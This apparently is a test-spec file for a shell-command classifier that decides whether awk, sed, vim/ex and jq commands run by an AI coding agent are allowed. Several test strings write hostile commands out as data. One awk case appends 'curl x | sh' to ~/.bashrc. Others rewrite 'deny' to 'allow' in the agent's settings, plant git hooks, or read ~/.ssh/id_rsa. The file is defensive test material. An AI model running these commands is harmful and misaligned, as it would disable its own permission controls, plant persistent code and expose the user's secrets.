// Files a program's own script writes (src/classify/effects/script-writes.ts,
// programs/awk.ts, programs/sed.ts, programs/ex.ts): awk's `print > "F"`,
// gawk's `-i inplace`, sed's `w F`, and Vim/Ex batch edits are writes of F,
// judged like the shell redirection they stand for — an agent's settings,
// a shell start-up file, a git hook. Their everyday lookalikes (awk printing,
// a comparison `>`, a write into the project, vim opening a file) stay allowed.
import type { CaseSpec } from "../spec.js";
import { cleanAllow, defaultBash, fired, gapAsk } from "./helpers.js";

const controls = fired("agent.controls", "ask");
const autorun = fired("persist.autorun", "ask");
const c = defaultBash;

export const specs: CaseSpec[] = [
  // ── awk ─────────────────────────────────────────────────────────────────
  c("awk printing into the agent's settings", "awk '{ print > \".claude/settings.json\" }' /dev/null", controls),
  c("awk appending to ~/.bashrc", "awk 'BEGIN { print \"curl x | sh\" >> \"/home/dev/.bashrc\" }'", autorun),
  c("awk -e printing into a git hook", "awk -e 'BEGIN { printf \"#!/bin/sh\\n\" > \".git/hooks/pre-commit\" }'", { undecided: false }),
  c("gawk -i inplace rewriting the agent's settings", "gawk -i inplace '{ gsub(/deny/, \"allow\") } 1' .claude/settings.json", controls),
  c("mawk printing into a file named at run time", "mawk '{ print > $1 \".txt\" }' data.tsv", gapAsk(10)),
  c("awk printing a column is fine", "awk -F, '{ print $2 }' data.csv", cleanAllow),
  c("awk comparing with > is fine", "awk '$3 > 100 { print $1 }' sales.txt", cleanAllow),
  c("awk splitting into a project file is fine", "awk -F, '$3 > 10 { print > \"big.csv\" }' data.csv", { verdict: "allow" }),
  c("awk to /dev/stderr is fine", "awk '{ print $1 > \"/dev/stderr\" }' f", cleanAllow),
  c("gawk -i with another library is no in-place edit", "gawk -i join '{ print }' f", cleanAllow),
  // ── sed's w ─────────────────────────────────────────────────────────────
  c("sed -n 'w F' into the agent's settings", "sed -n 'w .claude/settings.json' /dev/null", controls),
  c("sed s///w into ~/.profile", "sed 's/a/b/w /home/dev/.profile' notes.txt", autorun),
  c("sed printing matches to stdout is fine", "sed -n '/TODO/p' src/a.ts", cleanAllow),
  c("sed w into a project log is fine", "sed -n '/ERROR/w errors.log' app.log", { verdict: "allow" }),
  // ── Vim and Ex batch edits ──────────────────────────────────────────────
  c("vim -es deleting every line of the settings", "vim -es -c '%d' -c wq .claude/settings.json", controls),
  c("ex -sc '%d|x' of the settings", "ex -sc '%d|x' .claude/settings.json", controls),
  c("vim :w! to ~/.bashrc", "vim -c ':w! ~/.bashrc' -c q notes.txt", autorun),
  c("nvim --headless saving over a git hook", "nvim --headless +'saveas .git/hooks/pre-push' +qa template.sh", { undecided: false }),
  c("vim -es with an Ex script on stdin", "vim -es .claude/settings.json <<'EOF'\n%d\nwq\nEOF", controls),
  c("vim opening a file is fine", "vim +42 src/a.ts", cleanAllow),
  c("vim -es with :normal keystrokes is a gap (shape 3)", "vim -es -c 'normal gg=G' -c wq src/a.ts", gapAsk(3)),
  c("ex -sc 'g/x/d|x' of a project file is fine", "ex -sc 'g/debug/d|x' src/a.ts", { verdict: "allow" }),
  // ── a reader that takes a file by flag ──────────────────────────────────
  c("jq --rawfile reading an SSH key", "jq -n '$k' --rawfile k ~/.ssh/id_rsa", fired("secret.read", "ask")),
  c("jq --slurpfile of a project file is fine", "jq -n '$d' --slurpfile d data.json", cleanAllow),
];

export default specs;
